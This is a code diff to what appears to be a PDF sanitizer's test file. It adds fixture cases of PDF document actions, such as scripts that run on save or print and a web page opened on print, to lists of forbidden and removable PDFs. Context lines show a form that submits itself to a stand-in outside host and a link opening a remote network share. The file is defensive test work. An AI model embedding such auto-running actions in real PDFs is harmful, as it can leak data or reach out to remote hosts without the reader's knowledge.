@@ -61,6 +61,8 @@ export const FORBIDDEN_PDFS: Example[] = [
     'a form that sends itself when it is closed',
     () => handmade({ catalogue: '/AA<</WC<</S/SubmitForm/F(https://elsewhere.example/)>>>>' }),
   ],
+  ['a script that runs when it is saved', () => handmade({ catalogue: `/AA<</WS ${SCRIPT}>>` })],
+  ['a web page that opens when it is printed', () => handmade({ catalogue: `/AA<</WP ${WEB}>>` })],
   [
     'another document that opens with it',
     () => handmade({ catalogue: '/OpenAction<</S/GoToR/F(\\\\\\\\server\\\\share\\\\x.pdf)/D[0/Fit]>>' }),
@@ -95,6 +97,18 @@ export const REMOVABLE_PDFS: Example[] = [
   ],
   ['a script of a form that runs when it is opened', () => field('', {}, `/OpenAction ${script('xfa_installed')}`)],
   ['a script that prints it', () => handmade({ catalogue: `/OpenAction ${script('this.print({bUI: true});')}` })],
+  [
+    'a script that runs before it is printed',
+    () => handmade({ catalogue: `/AA<</WP ${script('this.addWatermarkFromText("Copy")')}>>` }),
+  ],
+  [
+    'scripts that run before and after it is printed, one behind another',
+    () =>
+      handmade({
+        catalogue: '/AA<</WP 10 0 R/DP 10 0 R>>',
+        objects: { 10: `<</S/GoTo/D[3 0 R/Fit]/Next ${script('app.beep(0)')}>>` },
+      }),
+  ],
   ['an XFA form beside its pages', () => withXfa(field('', { 12: '(<xdp/>)' }))],
 ]
 
